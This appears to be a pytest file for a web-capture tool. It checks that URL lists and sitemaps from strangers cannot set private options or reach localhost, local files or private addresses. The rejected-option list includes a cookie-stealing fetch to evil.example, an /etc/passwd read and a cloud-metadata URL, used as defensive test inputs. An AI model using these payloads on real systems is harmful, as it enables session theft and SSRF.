"""Addresses that strangers give: lists from the web, services that capture what they are told."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Playwright
from zoo.server import Zoo

from capture.errors import PolicyRefused
from capture.options import make_options
from capture.pipeline import Capturer
from capture.runs import seeds
from capture.runs.fetch import Fetched, is_private_host
from capture.runs.robots import Robots
from capture.runs.seeds import BadSeed, Seed, read_seeds

SITEMAP = "<urlset xmlns='x'><url><loc>{}</loc></url><url><loc>{}</loc></url></urlset>"


@pytest.fixture(scope="module")
def zoo() -> Iterator[Zoo]:
    with Zoo() as zoo:
        yield zoo


@pytest.fixture
def public_list(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Let a public address serve a list; every name is a public one for now."""
    is_private_host.cache_clear()
    public = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", 80))]
    monkeypatch.setattr("capture.runs.fetch.socket.getaddrinfo", lambda *_, **__: public)

    def read(body: str) -> list[Seed | BadSeed]:
        url = "https://lists.example/list"
        monkeypatch.setattr(seeds, "fetch", lambda *_: Fetched(url, BytesIO(body.encode())))
        return list(read_seeds(url))

    yield read
    is_private_host.cache_clear()


@pytest.mark.parametrize("host", ["lists.example", "rebinds.example"])
def test_page_of_a_public_list_is_captured_where_it_is_public(public_list: Any, host: str) -> None:
    """Its name was looked up when the list was read, and may lead elsewhere once it is captured."""
    listed = [
        *public_list(f"https://{host}/a\nhttps://{host}/b width=600 public_only=false\n"),
        *public_list(SITEMAP.format(f"https://{host}/a", f"https://{host}/b")),
    ]
    assert len(listed) == 4
    for seed in listed:
        assert isinstance(seed, Seed)
        assert seed.values()["public_only"] is True


@pytest.mark.parametrize(
    "option",
    [
        "storage_state=/home/me/state.json", "cookies=/home/me/cookies.txt", "header='A: b'",
        "javascript='fetch(`https://evil.example/`+document.cookie)'", "wait-for='alert(1)'",
        "filter-list=/etc/passwd", "timestamp=http://169.254.169.254/", "timeout=90m", "auth=a:b",
        "max-size=900GB", "wait=90m", "ignore-https-errors=true", "wacz=true",
    ],
)  # fmt: skip
def test_public_list_sets_nothing_that_is_the_users(public_list: Any, option: str) -> None:
    (seed,) = public_list(f"https://lists.example/a {option}\n")
    assert isinstance(seed, BadSeed)
    assert "may not set" in seed.reason


def test_nothing_private_is_captured_for_strangers(
    zoo: Zoo, tmp_path: Path, playwright: Playwright
) -> None:
    page = tmp_path / "page.html"
    page.write_text("<p>A file of this machine.")
    options = make_options({"public_only": True, "timeout": "5s"})
    zoo.asked.clear()
    with Capturer(tmp_path / "archive", options, playwright=playwright) as capturer:
        for address in (zoo.url("good"), f"http://localhost:{zoo.port}/", page.as_uri()):
            with pytest.raises(PolicyRefused):
                capturer.capture(address)
    assert zoo.asked == []
    with pytest.raises(Exception, match="private address"):
        Robots().permission(zoo.url("good"), public_only=True)
    assert zoo.asked == []
